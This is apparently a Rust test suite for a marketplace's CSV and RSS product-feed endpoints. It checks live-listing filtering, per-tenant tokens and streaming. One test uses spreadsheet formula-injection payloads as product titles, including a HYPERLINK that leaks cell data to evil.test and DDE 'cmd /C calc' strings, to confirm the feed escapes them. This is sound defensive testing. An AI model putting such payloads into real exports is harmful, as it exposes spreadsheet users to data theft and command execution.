//! Pull feeds: CSV (Meta) and RSS 2.0 XML (Google Merchant), listing exactly the live listings.

use quick_xml::{Reader, events::Event};
use sea_orm::ConnectionTrait;
use serde_json::json;

use super::*;

struct FeedSetup {
    tenant: Tenant,
    token: String,
    live: Vec<String>,
}

async fn feed_setup(app: &TestApp, slug: &str) -> FeedSetup {
    let titles = [
        "Keripik \"Pedas\" & <Renyah>, Asli",
        "Kopi Gayo",
        "Batik Tulis",
    ];
    feed_of(app, slug, &titles, 2).await
}

/// A feed whose first `live` products (of these titles) are LIVE.
async fn feed_of(app: &TestApp, slug: &str, titles: &[&str], live_count: usize) -> FeedSetup {
    let tenant = app.tenant(slug).await;
    let (channel, _) =
        register_channel(app, "feedy", "https://partner.example.com/h", json!({})).await;
    let token = enable_channel(app, &tenant, &channel, json!({ "stockBuffer": 10 })).await;
    let mut live = Vec::new();
    for (index, title) in titles.iter().enumerate() {
        let product = product(app, &tenant, title).await;
        let listing = publish_on(app, &tenant, &product, &channel).await;
        if index < live_count {
            app.db
                .execute_unprepared(&format!(
                    "UPDATE channel_listings SET status = 'LIVE' WHERE id = {}",
                    db_id(&listing)
                ))
                .await
                .unwrap();
            live.push(format!("dermaga-{}", db_id(&product)));
        }
    }
    FeedSetup {
        tenant,
        token,
        live,
    }
}

async fn get(app: &TestApp, path: &str) -> reqwest::Response {
    app.client
        .get(format!("{}{path}", app.address))
        .send()
        .await
        .unwrap()
}

/// The rows of the CSV feed at `path`, its header left out.
async fn csv_rows(app: &TestApp, path: &str) -> Vec<csv::StringRecord> {
    let text = get(app, path).await.text().await.unwrap();
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect()
}

#[tokio::test]
async fn the_csv_feed_parses_and_lists_exactly_the_live_listings() {
    let app = quiet_app().await;
    let setup = feed_setup(&app, "csvfeed").await;

    let response = get(
        &app,
        &format!("/feeds/feedy/csvfeed.csv?token={}", setup.token),
    )
    .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "title",
            "description",
            "availability",
            "condition",
            "price",
            "link",
            "image_link",
            "brand"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let ids: Vec<&str> = rows.iter().map(|row| &row[0]).collect();
    assert_eq!(ids, setup.live);
    assert_eq!(&rows[0][1], "Keripik \"Pedas\" & <Renyah>, Asli");
    assert_eq!(&rows[0][5], "15000 IDR");
    assert_eq!(&rows[0][4], "new");
    // 10 in stock, a buffer of 10 held back.
    assert_eq!(&rows[0][3], "out of stock");
    assert_eq!(&rows[0][8], "Keripik csvfeed");
}

#[tokio::test]
async fn titles_that_a_spreadsheet_would_run_as_formulas_are_served_as_text() {
    let app = quiet_app().await;
    let titles = [
        "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Klik\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let setup = feed_of(&app, "formulas", &titles, titles.len()).await;

    let rows = csv_rows(
        &app,
        &format!("/feeds/feedy/formulas.csv?token={}", setup.token),
    )
    .await;

    let served: Vec<&str> = rows.iter().map(|row| &row[1]).collect();
    let expected: Vec<String> = titles.iter().map(|title| format!("'{title}")).collect();
    assert_eq!(served, expected);
    assert!(rows.iter().all(|row| &row[5] == "15000 IDR"), "{rows:?}");
}

#[tokio::test]
async fn the_xml_feed_is_valid_rss_with_exactly_the_live_listings() {
    let app = quiet_app().await;
    let setup = feed_setup(&app, "xmlfeed").await;

    let response = get(
        &app,
        &format!("/feeds/feedy/xmlfeed.xml?token={}", setup.token),
    )
    .await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = Reader::from_str(&text);
    let (mut ids, mut titles, mut prices, mut path) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let mut root_namespace = None;
    loop {
        match reader.read_event().expect("well-formed XML") {
            Event::Start(start) => {
                let name = String::from_utf8(start.name().as_ref().to_vec()).unwrap();
                if name == "rss" {
                    root_namespace = start
                        .try_get_attribute("xmlns:g")
                        .unwrap()
                        .map(|a| String::from_utf8(a.value.to_vec()).unwrap());
                }
                path.push(name);
            }
            Event::End(_) => {
                path.pop();
            }
            Event::Text(text) => {
                let value = text.unescape().unwrap().to_string();
                match path.join("/").as_str() {
                    "rss/channel/item/g:id" => ids.push(value),
                    "rss/channel/item/title" => titles.push(value),
                    "rss/channel/item/g:price" => prices.push(value),
                    _ => {}
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    assert!(path.is_empty());
    assert_eq!(
        root_namespace.as_deref(),
        Some("http://base.google.com/ns/1.0")
    );
    assert_eq!(ids, setup.live);
    assert_eq!(titles[0], "Keripik \"Pedas\" & <Renyah>, Asli");
    assert_eq!(prices, ["15000 IDR", "15000 IDR"]);
}

#[tokio::test]
async fn a_feed_needs_its_own_token() {
    let app = quiet_app().await;
    let setup = feed_setup(&app, "owner").await;
    let other = app.tenant("intruder").await;
    let channel = app
        .graphql("{ channels { id code } }", json!({}), other.admin.token())
        .await["data"]["channels"][0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let other_token = enable_channel(&app, &other, &channel, json!({})).await;

    assert_eq!(get(&app, "/feeds/feedy/owner.csv").await.status(), 401);
    assert_eq!(
        get(&app, "/feeds/feedy/owner.csv?token=wrong")
            .await
            .status(),
        404
    );
    let stolen = get(&app, &format!("/feeds/feedy/owner.xml?token={other_token}")).await;
    assert_eq!(stolen.status(), 404);
    let own = get(
        &app,
        &format!("/feeds/feedy/intruder.csv?token={other_token}"),
    )
    .await;
    assert_eq!(own.status(), 200);
    assert_eq!(
        own.text().await.unwrap().lines().count(),
        1,
        "only the header"
    );
    let _ = setup.tenant;
}

#[tokio::test]
async fn a_feed_longer_than_a_page_is_streamed_whole() {
    use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter, Set};
    let app = quiet_app().await;
    api::seed::run(
        &app.db,
        api::seed::SeedPlan {
            aggregators: 1,
            sellers: 20,
            products: 900,
        },
    )
    .await
    .unwrap();
    // Every seeded product LIVE on one channel (archived and draft ones too: the feed skips them).
    let channel_id = entity::channels::Entity::find()
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    let aggregator_id = entity::aggregators::Entity::find()
        .filter(entity::aggregators::Column::Slug.starts_with("seed-"))
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .id;
    app.db
        .execute_unprepared("DELETE FROM channel_listings")
        .await
        .unwrap();
    app.db
        .execute_unprepared(&format!(
            "INSERT INTO channel_listings (aggregator_id, product_id, channel_id, status, attempts, created_at, updated_at) \
             SELECT aggregator_id, id, {channel_id}, 'LIVE', 0, created_at, updated_at FROM products"
        ))
        .await
        .unwrap();
    let token = "a-feed-token-for-the-test";
    let now = chrono::Utc::now();
    entity::aggregator_channels::ActiveModel {
        aggregator_id: Set(aggregator_id),
        channel_id: Set(channel_id),
        category_map: Set(json!({})),
        stock_share_percent: Set(None),
        stock_buffer: Set(None),
        feed_token_hash: Set(api::service::channels::hash_token(token)),
        created_at: Set(now),
        updated_at: Set(now),
        ..Default::default()
    }
    .insert(&app.db)
    .await
    .unwrap();
    let channel = entity::channels::Entity::find_by_id(channel_id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap();
    let slug = entity::aggregators::Entity::find_by_id(aggregator_id)
        .one(&app.db)
        .await
        .unwrap()
        .unwrap()
        .slug;
    let expected = app
        .db
        .query_one_raw(sea_orm::Statement::from_string(
            app.db.get_database_backend(),
            format!(
                "SELECT COUNT(*) AS n FROM channel_listings l \
                 JOIN products p ON p.id = l.product_id JOIN sellers s ON s.id = p.seller_id \
                 WHERE l.channel_id = {channel_id} AND l.aggregator_id = {aggregator_id} \
                 AND l.status = 'LIVE' AND p.status = 'ACTIVE' AND s.status = 'ACTIVE'"
            ),
        ))
        .await
        .unwrap()
        .unwrap()
        .try_get::<i64>("", "n")
        .unwrap();
    let live_on_channel = entity::channel_listings::Entity::find()
        .filter(entity::channel_listings::Column::ChannelId.eq(channel_id))
        .count(&app.db)
        .await
        .unwrap();
    assert!(
        live_on_channel > 200,
        "more than one page: {live_on_channel}"
    );

    let rows = csv_rows(
        &app,
        &format!("/feeds/{}/{slug}.csv?token={token}", channel.code),
    )
    .await;

    let ids: std::collections::HashSet<&str> = rows.iter().map(|row| &row[0]).collect();
    assert_eq!(ids.len() as i64, expected);
}
